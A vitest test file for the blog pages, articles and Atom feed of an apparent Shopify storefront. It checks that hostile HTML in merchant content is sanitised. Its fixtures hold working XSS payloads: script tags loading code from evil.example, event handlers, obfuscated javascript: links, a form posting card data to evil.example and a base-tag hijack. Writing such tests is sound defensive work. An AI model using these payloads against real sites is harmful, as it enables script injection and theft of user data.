import {afterAll, beforeAll, describe, expect, it} from 'vitest';
import {SEED} from '../../../local/seed/seed';
import type {SeedArticle, SeedBlog} from '../../../local/seed/types';
import {textOf} from '../../support/account';
import {startStack, type Stack} from '../../support/stack';
import {readStructuredData} from '../../support/structured-data';

const HOSTILE_HTML = [
  '<p onclick="steal()" style="position:fixed;inset:0" id="content" class="fixed">Kept words</p>',
  '<script>steal()</script><ScRiPt src=https://evil.example/x.js></ScRiPt>',
  '<img src=x onerror=steal()><svg onload=steal()><a href="/kept">x</a></svg>',
  '<a href="javascript:steal()">one</a><a href="java&#9;script:steal()">two</a>',
  '<iframe srcdoc="<script>steal()</script>"></iframe><style>body{display:none}</style>',
  '<form action="https://evil.example"><input name="card"></form></article></main><base href="https://evil.example/">',
  '<h1>Heading of the merchant</h1><a href="https://spice.example/kept">Kept link</a><script>steal()',
].join('');

const base: SeedArticle = {
  number: 101,
  handle: 'hostile',
  title: '</script><script>steal()</script>',
  author: {firstName: '<b>Eve</b>', lastName: '"', email: 'eve@shop.example', bio: '<img src=x onerror=steal()>'},
  publishedAt: '2026-05-30T12:00:00.000Z',
  tags: ['<i>tag</i>', 'Salt'],
  excerpt: '',
  bodyHtml: HOSTILE_HTML,
  seoDescription: '"><script>steal()</script>',
};

const BLOGS: readonly SeedBlog[] = [
  ...SEED.blogs,
  {
    number: 2,
    handle: 'news',
    title: 'News',
    seoDescription: '',
    articles: [
      base,
      ...Array.from({length: 14}, (_, index) => ({
        ...base,
        number: 110 + index,
        handle: `salt-${index}`,
        title: `Salt ${index}`,
        publishedAt: new Date(Date.parse('2026-05-20T12:00:00Z') - index * 86_400_000).toISOString(),
        tags: index < 13 ? ['Salt'] : [],
        bodyHtml: '<p>Salt.</p>',
      })),
    ],
  },
  {number: 3, handle: 'quiet', title: 'Quiet', seoDescription: '', articles: []},
];

let stack: Stack;
beforeAll(async () => void (stack = await startStack({seed: {...SEED, orders: [], blogs: BLOGS}})));
afterAll(() => stack.close());

const get = (path: string, headers: Readonly<Record<string, string>> = {Accept: 'text/html'}) =>
  fetch(stack.origin + path, {headers, redirect: 'manual'});
const htmlAt = async (path: string) => (await get(path)).text();
/** Returns the text of an article, which the note about its author follows. */
const bodyOf = (html: string) => /<div class="prose">(.*?)<\/div><aside/s.exec(html)?.[1] ?? '';
const articlesOf = (html: string) =>
  [...html.matchAll(/<h3[^>]*><a [^>]*href="(\/blogs\/news\/[^"]+)"/g)].map(([, path]) => path);

describe('the pages of a blog', () => {
  it('lists every blog, one without articles too', async () => {
    const html = await htmlAt('/blogs');
    for (const path of ['/blogs/journal', '/blogs/news', '/blogs/quiet']) expect(html).toContain(`href="${path}"`);
    expect(textOf(await htmlAt('/blogs/quiet'))).toContain('Nothing written yet');
  });

  it('has twelve articles a page, by links that lead on and back', async () => {
    const first = await htmlAt('/blogs/news');
    expect(articlesOf(first)).toHaveLength(12);
    const next = /<a[^>]*rel="next"[^>]*href="([^"]+)"/.exec(first)?.[1]?.replaceAll('&amp;', '&') ?? '';
    const second = await htmlAt(next);
    expect(articlesOf(second)).toEqual(['/blogs/news/salt-11', '/blogs/news/salt-12', '/blogs/news/salt-13']);
    expect(second).toContain('<meta name="robots" content="noindex"/>');
    const back = /<a[^>]*rel="prev"[^>]*href="([^"]+)"/.exec(second)?.[1]?.replaceAll('&amp;', '&') ?? '';
    expect(articlesOf(await htmlAt(back))).toEqual(articlesOf(first));
  });

  it('keeps the tag on the next page', async () => {
    const first = await htmlAt('/blogs/news?tag=salt');
    expect(articlesOf(first)).toHaveLength(12);
    const next = /<a[^>]*rel="next"[^>]*href="([^"]+)"/.exec(first)?.[1]?.replaceAll('&amp;', '&') ?? '';
    expect(next).toContain('tag=Salt');
    expect(articlesOf(await htmlAt(next))).toHaveLength(2);
  });

  it('asks Shopify once for a blog and for an article', async () => {
    for (const [path, operation] of [
      ['/blogs/journal', 'BlogPage'],
      ['/blogs/journal/basmati-rice', 'Article'],
    ] as const) {
      await stack.restartStorefront();
      await stack.shop.clearLog();
      await htmlAt(path);
      const {operations} = await stack.shop.log();
      expect(operations.find(({operation: name}) => name === operation)).toMatchObject({count: 1});
    }
  });

  it.each(['/blogs/none', '/blogs/none/x', '/blogs/journal/none', '/blogs/news/basmati-rice'])(
    'answers 404 with the way to all blogs at %s',
    async (path) => {
      const response = await get(path);
      expect(response.status).toBe(404);
      expect(textOf(await response.text())).toMatch(/Article Not Found .*See All Blogs/);
    },
  );
});

describe('an article', () => {
  it('has its author, date, reading time, products and other articles', async () => {
    const html = await htmlAt('/blogs/journal/cardamom-green-and-black');
    expect(textOf(html)).toMatch(/By Fatima Sheikh May 6, 2026 2 min read/);
    for (const href of [
      '/product/southern-spiced-biryani',
      '/product/desi-goat-curry',
      '/blogs/journal/a-small-pantry',
    ])
      expect(html).toContain(`href="${href}"`);
    expect(html).toMatch(
      /<meta property="og:image" content="[^"]+article-cardamom-green-and-black\.png[^"]+width=1200/,
    );
    expect(html).toContain('<meta property="og:type" content="article"/>');
    expect(html).toMatch(/<link rel="alternate" type="application\/atom\+xml"[^>]+href="[^"]+\/blogs\/journal\.atom"/);
  });

  it('runs nothing of a hostile text, and cannot leave its place', async () => {
    const html = await htmlAt('/blogs/news/hostile');
    const body = bodyOf(html);
    expect(body).toMatch(/^<p>Kept words<\/p>/);
    expect(body).toContain('<h2>Heading of the merchant</h2>');
    expect(body).toContain('href="https://spice.example/kept"');
    expect(body).not.toMatch(
      /<(?:script|style|iframe|svg|form|input|base|main)\b|\son\w+\s*=|javascript:|style=|steal\(\)<\/s/i,
    );
    // Outside of its text, React and the structured data escape what the merchant wrote.
    const scripts = [...html.matchAll(/<script[^>]*>(.*?)<\/script>/gs)].map(([, code = '']) => code);
    expect(scripts.filter((code) => /^\s*steal\(\)/.test(code))).toEqual([]);
    expect(html).not.toMatch(/<img[^>]*onerror|<b>Eve|<i>tag/);
    expect(readStructuredData(html).map((datum) => datum['@type'])).toEqual(['BreadcrumbList', 'BlogPosting']);
  });
});

describe('the Atom feed', () => {
  it('has the newest articles with absolute links', async () => {
    const response = await get('/blogs/journal.atom', {});
    expect(response.headers.get('Content-Type')).toBe('application/atom+xml; charset=utf-8');
    expect(response.headers.get('Cache-Control')).toBe('public, max-age=3600');
    const xml = await response.text();
    expect(xml.match(/<entry>/g)).toHaveLength(6);
    expect(xml).toContain(`&lt;a href=&quot;${stack.origin}/about&quot;&gt;`);
    expect(xml).toContain(`<id>${stack.origin}/blogs/journal/basmati-rice</id>`);
  });

  it('contains nothing of a hostile text that could run', async () => {
    const xml = await (await get('/blogs/news.atom', {})).text();
    const contents = [...xml.matchAll(/<content type="html">(.*?)<\/content>/gs)].map(([, content = '']) => content);
    expect(contents[0]).toContain('Kept words');
    expect(contents.join('\n')).not.toMatch(
      /&lt;(?:script|svg|iframe|style|form)|onclick|onerror=steal\(\)&gt;|javascript:/i,
    );
    expect(xml).not.toMatch(/<script|<img/);
  });

  it('is not found for a blog that does not exist', async () => {
    expect((await get('/blogs/none.atom', {})).status).toBe(404);
  });
});

it('is left out for a store that denies its content', async () => {
  const denied = await startStack({storefrontScopes: []});
  try {
    const statusOf = async (path: string) => (await fetch(denied.origin + path)).status;
    expect(textOf(await (await fetch(`${denied.origin}/blogs`)).text())).toContain('Nothing written yet');
    for (const path of ['/blogs/journal', '/blogs/journal/basmati-rice', '/blogs/journal.atom'])
      expect({path, status: await statusOf(path)}).toEqual({path, status: 404});
    for (const path of ['/llms.txt', '/sitemap/blogs/1.xml'])
      expect({path, status: await statusOf(path)}).toEqual({path, status: 200});
  } finally {
    await denied.close();
  }
});
